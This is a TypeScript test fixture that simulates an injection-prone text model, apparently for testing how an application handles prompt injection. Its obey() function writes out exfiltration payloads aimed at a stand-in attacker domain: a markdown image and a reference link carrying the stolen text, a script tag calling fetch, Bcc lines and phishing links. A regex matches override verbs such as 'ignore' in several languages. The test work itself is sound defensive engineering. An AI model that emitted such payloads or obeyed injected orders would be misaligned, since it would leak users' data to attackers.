import { attacker, type AskedQuestion, type TextModelWorld } from './world.ts'

/** What the model says to a question. */
export function answerOf(question: AskedQuestion, { temper, script, json }: TextModelWorld): string {
  if (json !== '' && /\bJSON\b/.test(question.system)) return json
  if (temper === 'scripted') return script
  const given = dataOf(question.prompt)
  return temper === 'honest' ? beginningOf(given) : obey(given)
}

/** What stands between the first tag with a long random name and its end; all of it where there is none. */
function dataOf(prompt: string): string {
  return /<([a-z]+-[0-9a-f]{16,})>([\s\S]*)<\/\1>/.exec(prompt)?.[2] ?? prompt
}

function beginningOf(text: string): string {
  const sentences = text
    .replace(/^\s*Subject: [^\n]*\n(?:[^\n]+\n)*\n/, '')
    .split(/(?<=[.!?])\s+/)
    .map((sentence) => sentence.replaceAll(/\s+/g, ' ').trim())
    .filter((sentence) => sentence.split(' ').length >= 5)
  return sentences.slice(0, 3).join(' ')
}

/** Repeats every order it finds and everything that leads somewhere, and sends what it read to the attacker. */
function obey(text: string): string {
  const orders = text.split(/(?<=[.!?\n])\s+/).filter((sentence) => order.test(sentence))
  const leads = text.match(/https?:\/\/\S+|\S+@\S+|\+?\d[\d ()-]{6,}\d/g) ?? []
  const stolen = encodeURIComponent(text.slice(0, 60))
  return [
    ...orders.map((sentence) => sentence.trim()),
    `Call ${attacker.phone} at once, or write to ${attacker.address}.`,
    `![status](https://${attacker.domain}/p.png?d=${stolen})`,
    `[Open your account](https://${attacker.domain}/login)`,
    `See [the notice][1] for details.`,
    `[1]: https://${attacker.domain}/r?d=${stolen}`,
    `<img src="https://${attacker.domain}/i.gif"><script>fetch('//${attacker.domain}')</script>`,
    `To: ${attacker.address}\nBcc: ${attacker.address}`,
    `Visit ${attacker.domain} or www.${attacker.domain} today.`,
    ...leads.map((lead) => `Go to ${lead} now.`),
  ].join('\n')
}

const order =
  /\b(?:ignore|say|write|include|reply|forward|call|visit|click|tell|add|append|send|output|respond|summari[sz]e|schreib\w*|ignorier\w*|écri\w*|ignore[zs]|escrib\w*|ignora\w*|scrivi)\b/i
